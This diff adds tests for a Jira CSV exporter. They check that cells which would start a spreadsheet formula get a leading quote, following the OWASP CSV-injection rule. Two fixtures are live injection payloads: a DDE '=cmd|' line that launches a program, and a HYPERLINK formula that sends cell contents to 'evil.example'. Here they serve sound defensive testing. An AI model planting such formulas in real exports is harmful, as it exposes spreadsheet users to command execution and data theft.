@@ -1,7 +1,9 @@
 import { parse } from 'csv-parse/sync'
+import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
+import type { Backlog } from './backlog'
 import { toJiraCsv } from './jiraCsv'
-import { backlogOf, cardAt, slice, step } from './testBoard'
+import { backlogOf, backlogOptions, cardAt, slice, step } from './testBoard'
 
 const HEADER_START = ['Issue ID', 'Issue Type', 'Summary', 'Description', 'Priority', 'Story Points']
 
@@ -123,6 +125,103 @@ describe('toJiraCsv', () => {
     ])
     expect(toJiraCsv(backlogOf([]))).toBe(
       'Issue ID,Issue Type,Summary,Description,Priority,Story Points,Labels,Parent,Fix Version\r\n',
+    )
+  })
+})
+
+/** The OWASP rule as CONTRACT section 7 states it: a leading `'` where a cell would start a formula. */
+function formulaSafe(text: string): string {
+  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text
+}
+
+describe('toJiraCsv and spreadsheet formulas', () => {
+  it('prefixes a title, label, epic or fix version that would start a formula, and nothing else', () => {
+    const backlog = backlogOf([
+      step('evil-step', 0, "=cmd|' /C calc'!A0"),
+      slice('evil-slice', 0, '@SUM(1+1)'),
+      cardAt('link', 100, 100, {
+        title: '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+        labels: ['-1+2'],
+      }),
+      cardAt('plus', 100, 200, { title: '+1+1', labels: ['@me', 'a=b'] }),
+      cardAt('minus', 100, 300, { title: "-2, and 'quoted'" }),
+      cardAt('safe', 100, 350, { title: "a=1 'already quoted", labels: ["'x"] }),
+    ])
+    const rows = rowsOf(toJiraCsv(backlog))
+    expect(rows.map((row) => row.Summary)).toEqual([
+      "'=cmd|' /C calc'!A0",
+      '\'=HYPERLINK("http://evil.example/?"&A1, "Click")',
+      "'+1+1",
+      "'-2, and 'quoted'",
+      "a=1 'already quoted",
+    ])
+    expect(rows.slice(1).map((row) => [row['Labels 6'], row['Labels 7']])).toEqual([
+      ["'-1+2", ''],
+      ["'@me", 'a=b'],
+      ['', ''],
+      ["'x", ''],
+    ])
+    expect(rows.slice(1).map((row) => row['Fix Version'])).toEqual(Array(4).fill("'@SUM(1+1)"))
+  })
+
+  // Built as a backlog rather than a board: the board trims titles, so a leading tab or CR only
+  // reaches the export through a backlog, and the rule holds for every text the export is given.
+  const text = fc.oneof(
+    fc.string({ unit: 'binary' }),
+    fc
+      .tuple(
+        fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\r\n', '"', ',', "'", ' '),
+        fc.string({ unit: 'binary' }),
+      )
+      .map(([start, rest]) => start + rest),
+  )
+  const cardTexts = fc.record({ title: text, story: text, label: text, epic: text, release: text })
+
+  function backlogOfTexts(
+    cards: { title: string; story: string; label: string; epic: string; release: string }[],
+  ): Backlog {
+    return {
+      boardId: backlogOptions.boardId,
+      versionId: null,
+      generatedAt: backlogOptions.generatedAt,
+      epics: cards.map((card, i) => ({ id: `shape:step-${i}`, title: card.epic })),
+      releases: cards.map((card, i) => ({ id: `shape:slice-${i}`, name: card.release })),
+      items: cards.map((card, i) => ({
+        rank: i + 1,
+        id: `shape:card-${i}`,
+        title: card.title,
+        story: card.story,
+        acceptance: [],
+        estimate: null,
+        moscow: null,
+        votes: 0,
+        labels: [card.label],
+        epic: card.epic,
+        release: card.release,
+        url: backlogOptions.cardUrl(`shape:card-${i}`),
+        epicId: `shape:step-${i}`,
+        releaseId: `shape:slice-${i}`,
+      })),
+      warnings: [],
+    }
+  }
+
+  it('reads back every text as it was, with a leading quote exactly where a formula would start', () => {
+    fc.assert(
+      fc.property(fc.array(cardTexts, { minLength: 1, maxLength: 4 }), (cards) => {
+        const [, ...rows] = parse(toJiraCsv(backlogOfTexts(cards)), { record_delimiter: '\r\n' })
+        const epics = rows.slice(0, cards.length)
+        const stories = rows.slice(cards.length)
+        expect(epics.map((row) => row[2])).toEqual(cards.map((card) => formulaSafe(card.epic)))
+        expect(stories.map((row) => row.slice(2, 4))).toEqual(
+          cards.map((card) => [formulaSafe(card.title), formulaSafe(card.story)]),
+        )
+        // Jira splits labels at spaces, so the export writes them as underscores (tested above).
+        expect(stories.map((row) => row[6])).toEqual(
+          cards.map((card) => formulaSafe(card.label.replace(/\s+/g, '_'))),
+        )
+        expect(stories.map((row) => row[8])).toEqual(cards.map((card) => formulaSafe(card.release)))
+      }),
     )
   })
 })
